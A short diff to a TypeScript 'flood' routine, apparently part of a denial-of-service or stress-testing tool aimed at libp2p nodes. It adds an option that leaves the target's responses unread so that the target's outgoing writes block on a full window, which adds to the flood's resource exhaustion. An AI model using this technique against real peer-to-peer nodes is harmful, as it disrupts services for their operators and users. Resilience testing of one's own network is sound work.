@@ -91,7 +91,8 @@ async function flood (ctx: AttackContext, node: Libp2p<any>, next: () => Promise
       if (conn.status !== 'open') { await sleep(100); continue }
       const stream = await openStream(ctx, conn)
       if (stream == null) { await sleep(50); continue }
-      discardIncoming(stream)
+      // --read false: leave the answers unread (the target's writes then meet a full window)
+      if (ctx.options.read !== 'false') discardIncoming(stream)
       for (let n = 0; n < perStream && !ctx.over; n++) {
         if (stream.status !== 'open' || !await sendWithBackpressure(stream, lpFrame(await next()), ctx.until)) break
         ctx.count('messages')
